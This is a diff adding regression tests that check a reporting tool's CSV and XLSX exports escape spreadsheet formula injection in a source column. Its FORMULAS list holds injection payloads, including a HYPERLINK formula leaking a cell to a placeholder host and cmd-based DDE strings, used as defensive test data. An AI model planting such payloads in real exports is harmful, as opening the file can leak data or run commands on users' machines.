@@ -137,3 +137,88 @@ def test_workers_are_told_they_were_forked_by_the_batch(monkeypatch: pytest.Monk
     with pytest.raises(RuntimeError):
         batch_module._pool([], Path("."), 1, lambda r: None, batch_module.CtrlC())
     assert seen["initargs"] == (os.getpid(), batch_module._FORK)
+
+
+# ------------------------------------------------------------ formulas in exported figures
+
+
+def data_with_sources(tmp_path: Path, source: str) -> Path:
+    """The embedded data with every row's source (and no translation of it) set to ``source``."""
+    import csv
+    import io
+
+    from reports.resources import default_data_path
+
+    with default_data_path().open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    header = rows[0]
+    column = header.index("source")
+    translations = [i for i, name in enumerate(header) if name.startswith("source_")]
+    body = [
+        [source if i == column else "" if i in translations else cell for i, cell in enumerate(r)]
+        for r in rows[1:]
+    ]
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\n").writerows([header, *body])
+    path = tmp_path / "data.csv"
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    return path
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Office des Changes")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("source", FORMULAS)
+def test_a_source_that_looks_like_a_formula_is_text_in_the_csv(tmp_path: Path, source: str) -> None:
+    """`reports export --format csv` wrote the source as is: a spreadsheet opening the file ran
+    it (CSV injection)."""
+    import csv
+
+    data = data_with_sources(tmp_path, source)
+    out = tmp_path / "out"
+    result = runner.invoke(
+        app, ["export", "--data", str(data), "--period", "2024", "--format", "csv", "-o", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    path = out / "2024" / "figures-2024.csv"
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    sources = {row["source"] for row in rows}
+    assert sources == {"'" + source}
+    assert rows[0]["value_mad_m"] == "10578.0"  # numbers stay numbers
+
+
+def test_negative_numbers_in_the_csv_are_not_quoted(tmp_path: Path) -> None:
+    from reports.cells import csv_text
+
+    assert csv_text(-0.05) == -0.05
+    assert csv_text("ITO") == "ITO"
+    assert csv_text("-x") == "'-x"
+
+
+@pytest.mark.parametrize("locale", [None, "ar"])
+def test_a_source_that_looks_like_a_formula_is_a_string_in_the_xlsx(
+    tmp_path: Path, locale: str | None
+) -> None:
+    """`reports export` (XLSX) stored `=HYPERLINK(...)` as a formula cell (openpyxl's type
+    'f'): Excel ran it on opening. Now it is a string cell, its text unchanged."""
+    import openpyxl
+
+    source = FORMULAS[0]
+    data = data_with_sources(tmp_path, source)
+    out = tmp_path / "out"
+    args = ["export", "--data", str(data), "--period", "2024", "-o", str(out)]
+    result = runner.invoke(app, args + (["--locale", locale] if locale else []))
+    assert result.exit_code == 0, result.output
+    suffix = f"-{locale}" if locale else ""
+    book = openpyxl.load_workbook(out / "2024" / f"figures-2024{suffix}.xlsx")
+    sheet = book["figures"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in sheet["L"][1:]] == [source] * (sheet.max_row - 1)
+    assert sheet["D2"].data_type == "n" and sheet["D2"].value == 10578
